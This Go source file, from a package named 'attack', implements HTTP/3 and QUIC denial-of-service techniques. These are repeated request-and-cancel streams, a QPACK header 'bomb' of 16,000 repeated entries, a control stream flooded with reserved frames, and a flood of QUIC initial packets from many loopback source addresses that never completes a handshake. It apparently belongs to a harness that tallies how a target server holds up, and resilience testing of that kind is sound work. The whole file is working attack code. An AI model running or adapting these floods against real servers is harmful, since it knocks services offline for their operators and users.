package attack

import (
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"github.com/quic-go/quic-go"
)

// H3_NO_ERROR and H3_REQUEST_CANCELLED (RFC 9114 8.1).
const noError, cancelled = 0x100, 0x10c

// request is HEADERS of a good request for one byte, by the static table (RFC 9204 4.5).
const request = "\x01\x0b\x00\x00\xd1\xd7\x50\x01a\x51\x02/1"

// quicClient is what a client of HTTP/3 needs at least.
func quicClient() (*tls.Config, *quic.Config) {
	return &tls.Config{InsecureSkipVerify: true, NextProtos: []string{"h3"}, CurvePreferences: []tls.CurveID{tls.X25519}},
		&quic.Config{HandshakeIdleTimeout: 2 * time.Second, MaxIncomingUniStreams: 10}
}

// connect opens a connection of HTTP/3, which ends with ctx; nil: it is refused.
func (h *hand) connect(ctx context.Context) (conn *quic.Conn, end func()) {
	to, err := net.ResolveUDPAddr("udp", h.target.Secure)
	if err != nil {
		return nil, nil
	}
	socket, err := net.ListenUDP("udp4", &net.UDPAddr{IP: source})
	if err != nil {
		h.refused(ctx)
		return nil, nil
	}
	secured, cfg := quicClient()
	conn, err = quic.Dial(ctx, socket, to, secured, cfg)
	if err != nil {
		socket.Close()
		h.refused(ctx)
		return nil, nil
	}
	h.tally.Connections++
	stop := context.AfterFunc(ctx, func() { conn.CloseWithError(noError, "") })
	return conn, func() {
		stop()
		conn.CloseWithError(noError, "")
		socket.Close()
	}
}

// part notes by which code a connection has ended.
func (h *hand) part(ctx context.Context, err error) {
	var coded *quic.ApplicationError
	if !errors.As(err, &coded) {
		h.ended(ctx, "closed")
		return
	}
	name, known := map[quic.ApplicationErrorCode]string{
		noError: "H3_NO_ERROR", 0x101: "H3_GENERAL_PROTOCOL_ERROR", 0x107: "H3_EXCESSIVE_LOAD",
	}[coded.ErrorCode]
	if !known {
		name = fmt.Sprintf("H3 %#x", uint64(coded.ErrorCode))
	}
	h.ended(ctx, name)
}

// streams is a way of HTTP/3: one stream after the other.
func streams(strike func(*quic.Stream)) way {
	return func(ctx context.Context, h *hand) {
		conn, end := h.connect(ctx)
		if conn == nil {
			return
		}
		defer end()
		for {
			s, err := conn.OpenStreamSync(ctx)
			if err != nil {
				h.part(ctx, err)
				return
			}
			strike(s)
			h.tally.Strikes++
		}
	}
}

func requestAndReset(s *quic.Stream) {
	io.WriteString(s, request)
	s.CancelRead(cancelled)
	s.CancelWrite(cancelled)
}

// fieldBomb names an entry of 53 bytes and more 16,000 times, in 32 KB (RFC 9204 4.5.2,
// entry 85 of its static table).
func fieldBomb(s *quic.Stream) {
	const times = 16_000
	section := []byte("\x00\x00")
	for range times {
		section = append(section, 0xff, 85-63)
	}
	b := append([]byte{0x01}, 0x80, 0, byte(len(section)>>8), byte(len(section)))
	s.Write(append(b, section...))
	s.CancelRead(cancelled)
	s.Close()
}

// controlStream sends frames of a reserved type after its SETTINGS (RFC 9114 7.2.8).
func controlStream(ctx context.Context, h *hand) {
	conn, end := h.connect(ctx)
	if conn == nil {
		return
	}
	defer end()
	const settings, each = "\x00\x04\x00", 256
	s, err := conn.OpenUniStreamSync(ctx)
	if err != nil {
		h.part(ctx, err)
		return
	}
	blow := make([]byte, 2*each)
	for i := range each {
		blow[2*i] = 0x21
	}
	for _, err = io.WriteString(s, settings); err == nil; _, err = s.Write(blow) {
		h.tally.Strikes += each
	}
	<-conn.Context().Done() // says why
	h.part(ctx, context.Cause(conn.Context()))
}

// firstPacket is how many bytes a client's first packet has at least (RFC 9000 14.1).
const firstPacket = 1200

// answerWithin is how long an attacker pretends to wait: less than the least time after
// which a first packet is sent again.
const answerWithin = 2 * time.Millisecond

// initials sends first packets, each from another address of 127.0.0.0/8, and takes no
// answer.
func initials(ctx context.Context, h *hand) {
	to, err := net.ResolveUDPAddr("udp", h.target.Secure)
	if err != nil {
		return
	}
	out := &oneWay{}
	if err := out.open(h.number); err != nil {
		h.refused(ctx)
		return
	}
	t := &quic.Transport{Conn: out}
	defer t.Close() // waits for ReadFrom
	defer out.Close()
	secured, cfg := quicClient()
	for ctx.Err() == nil {
		waits, stop := context.WithTimeout(ctx, answerWithin)
		t.Dial(waits, to, secured, cfg) // never succeeds
		stop()
	}
	h.tally.Connections += out.sent.Load()
	h.tally.Strikes += out.sent.Load()
}

// sources is how many addresses each attacker has.
const sources = 16

// oneWay is a socket that sends first packets from many addresses and gets nothing.
type oneWay struct {
	from   []*net.UDPConn
	sent   atomic.Int64
	closed chan struct{}
	once   sync.Once
}

// open opens the sockets of one attacker.
func (o *oneWay) open(number int) error {
	o.closed = make(chan struct{})
	for i := range sources {
		conn, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 1, byte(number), byte(i+1))})
		if err != nil {
			o.Close()
			return err
		}
		o.from = append(o.from, conn)
	}
	return nil
}

// WriteTo sends a first packet, and says of all else that it was sent.
func (o *oneWay) WriteTo(b []byte, to net.Addr) (int, error) {
	if len(b) < firstPacket {
		return len(b), nil
	}
	n := o.sent.Add(1)
	return o.from[n%sources].WriteTo(b, to)
}

// ReadFrom waits for the end.
func (o *oneWay) ReadFrom([]byte) (int, net.Addr, error) {
	<-o.closed
	return 0, nil, net.ErrClosed
}

// Close closes the sockets.
func (o *oneWay) Close() error {
	o.once.Do(func() {
		close(o.closed)
		for _, conn := range o.from {
			conn.Close()
		}
	})
	return nil
}

// LocalAddr is that of one of them.
func (o *oneWay) LocalAddr() net.Addr { return o.from[0].LocalAddr() }

// SetDeadline does nothing, as do the other two.
func (o *oneWay) SetDeadline(time.Time) error { return nil }

// SetReadDeadline does nothing.
func (o *oneWay) SetReadDeadline(time.Time) error { return nil }

// SetWriteDeadline does nothing.
func (o *oneWay) SetWriteDeadline(time.Time) error { return nil }
